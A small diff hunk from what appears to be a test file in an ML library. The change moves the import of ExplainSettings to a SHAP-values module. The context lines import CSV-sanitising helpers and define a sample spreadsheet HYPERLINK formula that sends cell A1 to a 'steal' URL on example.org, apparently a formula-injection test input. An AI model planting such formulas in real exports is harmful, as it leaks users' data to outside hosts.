@@ -11,7 +11,8 @@ from model_helpers import train
 
 from mlcore.data.loading import load_bytes
 from mlcore.deploy.predict import FORMULA_START, safe_csv_bytes
-from mlcore.explain.explainer import ExplainSettings, explain_run
+from mlcore.explain.explainer import explain_run
+from mlcore.explain.shap_values import ExplainSettings
 
 LINK = '=HYPERLINK("http://example.org/steal?"&A1,"click")'
 
